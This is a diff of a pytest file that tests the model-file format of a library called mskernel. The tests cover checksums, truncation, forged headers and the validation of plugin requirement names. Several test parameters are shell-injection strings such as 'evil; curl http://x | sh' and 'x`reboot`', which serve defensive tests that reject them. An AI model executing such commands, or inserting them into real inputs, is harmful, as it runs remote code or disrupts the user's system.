@@ -1,5 +1,6 @@
 """The model file: exact round trip of graph and weights, the documented layout, a clear error
-for every kind of damaged or unreadable file, atomic writes, and the missing-plugin message."""
+of one line for every kind of damaged, forged or unreadable file (also from `mskernel
+explain`), atomic writes, and the missing-plugin message with only valid names in it."""
 
 import hashlib
 import json
@@ -10,6 +11,7 @@ import numpy as np
 import pytest
 
 import mskernel
+from mskernel.cli import main
 from mskernel.errors import FileFormatError
 from mskernel.ir import ALL_DTYPES, GraphBuilder, bfloat16, tensor_type
 from mskernel.ir.dtypes import bfloat16_to_bits
@@ -18,8 +20,7 @@ from mskernel.ir.printer import print_graph
 from mskernel.ops import elementwise
 from mskernel.ops.registry import OpDef, OpRegistry
 from mskernel.testing import random_array
-
-PREFIX = struct.Struct("<8sIQ")
+from mskernel.testing.filefuzz import PREFIX, Parts, seal
 
 
 def small_graph():
@@ -60,29 +61,27 @@ def test_graph_and_weights_of_every_dtype_round_trip_exactly(tmp_path):
     assert model.requires == {"mskernel": mskernel.__version__}
 
 
-def read_parts(path):
-    data = path.read_bytes()
-    magic, version, nbytes = PREFIX.unpack_from(data)
-    header = json.loads(data[PREFIX.size:PREFIX.size + nbytes])
-    start = -(-(PREFIX.size + nbytes) // ALIGNMENT) * ALIGNMENT
-    return data, magic, version, header, start
-
-
 def test_layout_is_the_documented_one(tmp_path):
     path = tmp_path / "m.msk"
     bf16 = np.array([1.0, -2.5, 0.1], np.float32)
     save_model(path, small_graph(), {"a": np.arange(3, dtype=np.uint8), "b": bf16},
                dtypes={"b": bfloat16})
-    data, magic, version, header, start = read_parts(path)
-    assert (magic, version) == (MAGIC, FORMAT_VERSION) and start % ALIGNMENT == 0
+    data = path.read_bytes()
+    magic, version, header_nbytes, payload_nbytes = PREFIX.unpack_from(data)
+    assert (magic, version, payload_nbytes) == (MAGIC, FORMAT_VERSION, 70)
+    header = json.loads(data[PREFIX.size:PREFIX.size + header_nbytes])
+    assert list(header) == ["format_version", "producer", "graph", "requires", "op_owners",
+                            "tensors"]
     assert header["graph"] == print_graph(small_graph())
     assert header["op_owners"] == {"add": "mskernel", "cast": "mskernel", "clip": "mskernel"}
     a, b = header["tensors"]["a"], header["tensors"]["b"]
     assert a == {"dtype": "uint8", "shape": [3], "offset": 0, "nbytes": 3}
     assert b == {"dtype": "bfloat16", "shape": [3], "offset": 64, "nbytes": 6}
-    payload = data[start:]
-    assert header["payload"] == {"nbytes": len(payload),
-                                 "sha256": hashlib.sha256(payload).hexdigest()}
+    start = -(-(PREFIX.size + header_nbytes) // ALIGNMENT) * ALIGNMENT
+    assert data[PREFIX.size + header_nbytes:start] == bytes(start - PREFIX.size - header_nbytes)
+    payload, digest = data[start:-32], data[-32:]
+    assert len(payload) == payload_nbytes
+    assert digest == hashlib.sha256(data[:-32]).digest()  # the header is covered too
     assert payload[:3] == b"\x00\x01\x02" and payload[3:64] == bytes(61)
     assert payload[64:70] == bfloat16_to_bits(bf16).astype("<u2").tobytes()
 
@@ -105,26 +104,28 @@ def load_error(path, registry=None) -> str:
 
 
 def test_truncated_files_say_how_many_bytes_are_missing(saved):
-    data, _, _, header, start = read_parts(saved)
-    header_end = PREFIX.size + len(data[PREFIX.size:start].rstrip(b"\0"))
+    data = saved.read_bytes()
     cuts = {0: f"expected at least {PREFIX.size} bytes, found 0",
             5: f"expected at least {PREFIX.size} bytes, found 5",
-            PREFIX.size - 1: f"expected at least {PREFIX.size} bytes, found {PREFIX.size - 1}",
-            PREFIX.size + 10: f"the header needs {header_end} bytes, found {PREFIX.size + 10}",
-            header_end - 1: f"the header needs {header_end} bytes, found {header_end - 1}"}
-    for cut in (header_end, start, start + 200, len(data) - 1):
-        cuts[cut] = f"the header says the file holds {len(data)} bytes, found {cut}"
+            PREFIX.size - 1: f"expected at least {PREFIX.size} bytes, found {PREFIX.size - 1}"}
+    for cut in (PREFIX.size, PREFIX.size + 10, 300, len(data) - 33, len(data) - 1):
+        cuts[cut] = f"the file should hold {len(data)} bytes, found {cut}"
     for cut, detail in cuts.items():
         saved.write_bytes(data[:cut])
         assert load_error(saved) == f"truncated: {detail}", cut
 
 
-def test_flipped_payload_byte_is_reported_as_corruption(saved):
-    data, *_, start = read_parts(saved)
-    damaged = bytearray(data)
-    damaged[start + 17] ^= 0x40
-    saved.write_bytes(bytes(damaged))
-    assert load_error(saved).startswith("corrupt: the payload does not match its SHA-256")
+def test_one_damaged_byte_anywhere_is_reported_as_corruption(saved):
+    data = saved.read_bytes()
+    text = Parts.of(data).header_text
+    offset_digit = PREFIX.size + text.index(b'"offset": 0') + len(b'"offset": ')
+    constant = PREFIX.size + text.index(b"max=inf") + len(b"max=")
+    for at in (offset_digit, constant, len(data) - 100, len(data) - 1):
+        damaged = bytearray(data)
+        damaged[at] ^= 0x01
+        saved.write_bytes(bytes(damaged))
+        assert load_error(saved) == ("corrupt: the file does not match its SHA-256 checksum "
+                                     "(it was damaged after it was written)"), at
     saved.write_bytes(data + b"\0")
     assert load_error(saved) == "corrupt: 1 unexpected bytes after the payload"
 
@@ -150,20 +151,19 @@ def test_other_files_are_not_mskernel_files(tmp_path, content):
 
 
 def rewrite_header(path, edit, version=None):
-    """Re-write the file at ``path`` with its JSON header changed by ``edit(header)``."""
-    data, _, file_version, header, start = read_parts(path)
+    """Re-write the file at ``path`` with its JSON header changed by ``edit(header)`` and a
+    digest that matches (a forged file)."""
+    parts = Parts.of(path.read_bytes())
+    header = parts.header
     edit(header)
-    text = json.dumps(header).encode()
-    head = PREFIX.pack(MAGIC, file_version if version is None else version, len(text)) + text
-    head += bytes(-len(head) % ALIGNMENT)
-    path.write_bytes(head + data[start:])
+    path.write_bytes(seal(MAGIC, parts.version if version is None else version,
+                          json.dumps(header).encode(), parts.payload))
 
 
 def test_invalid_headers_are_reported(saved):
-    data, *_ = read_parts(saved)
-    damaged = bytearray(data)
-    damaged[PREFIX.size] = ord("[")
-    saved.write_bytes(bytes(damaged))
+    data = saved.read_bytes()
+    parts = Parts.of(data)
+    saved.write_bytes(seal(MAGIC, FORMAT_VERSION, b"[" + parts.header_text[1:], parts.payload))
     assert load_error(saved).startswith("invalid header: not UTF-8 JSON")
 
     saved.write_bytes(data)
@@ -172,7 +172,8 @@ def test_invalid_headers_are_reported(saved):
 
     saved.write_bytes(data)
     rewrite_header(saved, lambda h: h["tensors"]["w"].update(nbytes=4000))
-    assert load_error(saved).startswith("invalid header: tensor 'w' (float32[100], 4000 bytes")
+    assert load_error(saved) == ("invalid header: tensor 'w' is float32[100] (400 bytes), but "
+                                 "the header gives it 4000 bytes")
 
     saved.write_bytes(data)
     rewrite_header(saved, lambda h: h["tensors"]["w"].update(dtype="float8"))
@@ -184,8 +185,36 @@ def test_invalid_headers_are_reported(saved):
 
     saved.write_bytes(data)
     rewrite_header(saved, lambda h: h.update(graph=h["graph"].replace("add(", "add (%9, ")))
-    assert load_error(saved).startswith(
-        "the stored graph does not parse: 3:13: value %9 is not defined before this use\n")
+    assert load_error(saved) == (
+        "the stored graph does not parse: 3:13: value %9 is not defined before this use")
+
+
+@pytest.mark.parametrize("edit, message", [
+    (lambda g: g.replace("max=inf", "max=" + "(" * 5000 + ")" * 5000),
+     "4:122: tuples nested more than 100 deep"),
+    (lambda g: g.replace("max=inf", "max=1" + "0" * 5000),
+     "4:22: an integer of 5001 digits, more than 4300"),
+    (lambda g: g.replace("f32[2,3] \"x\"", "f32[2," + "9" * 5000 + "] \"x\""),
+     "1:22: an integer of 5000 digits, more than 4300"),
+], ids=["deep attribute nesting", "5000-digit attribute", "5000-digit dimension"])
+def test_hostile_graph_text_is_a_file_format_error(saved, edit, message):
+    rewrite_header(saved, lambda h: h.update(graph=edit(h["graph"])))
+    assert load_error(saved).startswith(f"the stored graph does not parse: {message}")
+
+
+@pytest.mark.parametrize("content", [
+    b"\x80\x04\x95 pickle",
+    seal(MAGIC, FORMAT_VERSION, b'{"format_version": 2, "producer": ' + b"[" * 100_000, b""),
+    seal(MAGIC, FORMAT_VERSION, b'{"format_version": 2, "producer": "", "producer": ""}', b""),
+], ids=["foreign", "deep JSON nesting", "duplicate key"])
+def test_explain_reports_a_malformed_file_in_one_line(tmp_path, capsys, content):
+    path = tmp_path / "bad.msk"
+    path.write_bytes(content)
+    assert main(["explain", str(path)]) == 1
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    assert captured.err.startswith(f"mskernel explain: {path}: ")
+    assert captured.err.count("\n") == 1 and "Traceback" not in captured.err
 
 
 # -- plugins the model needs ---------------------------------------------------------------------
@@ -235,6 +264,49 @@ def test_an_older_installed_distribution_asks_for_an_upgrade(saved):
         f"this model needs mskernel >= 99.0 for ops 'add', 'cast', 'clip', but "
         f"{mskernel.__version__} is installed; upgrade it with `pip install -U mskernel`")
 
+
+
+@pytest.mark.parametrize("name", [
+    "", "-dash-first", "dot.last.", "two words", "evil; curl http://x | sh",
+    "x`reboot`", "pkg\nnext line", "mskernel-fakeplugin==1.0"])
+def test_requirement_names_are_distribution_names_before_any_remedy_shows_them(
+        plugin_model, name):
+    path, _ = plugin_model
+
+    def forge(header):
+        header["requires"][name] = header["requires"].pop("mskernel-fakeplugin")
+        header["op_owners"]["fake.expectation"] = name
+
+    rewrite_header(path, forge)
+    message = load_error(path)
+    assert message == f"invalid header: requires names {name!r}, which is not a distribution name"
+    assert "pip install" not in message
+
+
+@pytest.mark.parametrize("version", ["1.0; curl http://x | sh", "", "latest", 3, ["1"]])
+def test_recorded_versions_are_versions(saved, version):
+    rewrite_header(saved, lambda h: h["requires"].update(mskernel=version))
+    assert load_error(saved) == "invalid header: requires['mskernel'] is not a version"
+
+
+def test_op_owners_name_only_required_distributions(saved):
+    rewrite_header(saved, lambda h: h["op_owners"].update(add="mskernel-elsewhere"))
+    assert load_error(saved) == ("invalid header: op_owners gives 'add' an owner that requires "
+                                 "does not list")
+    rewrite_header(saved, lambda h: h["op_owners"].update(add=["mskernel"]))
+    assert load_error(saved).startswith("invalid header: op_owners gives 'add' an owner")
+
+
+def test_an_op_owner_that_is_no_distribution_name_is_not_saved(tmp_path):
+    registry = OpRegistry()
+    registry.define_all(elementwise.OPS)
+    registry.define(FAKE_OP, owner="my notebook")
+    b = GraphBuilder("g", registry)
+    graph = b.build([b.op("fake.expectation", b.input(tensor_type("f64", (4,))))])
+    with pytest.raises(ValueError, match="op 'fake.expectation' is owned by 'my notebook', "
+                                         "which is not a distribution name"):
+        save_model(tmp_path / "m.msk", graph, registry=registry)
+    assert not os.listdir(tmp_path)
 
 # -- atomic writes ------------------------------------------------------------------------------
 
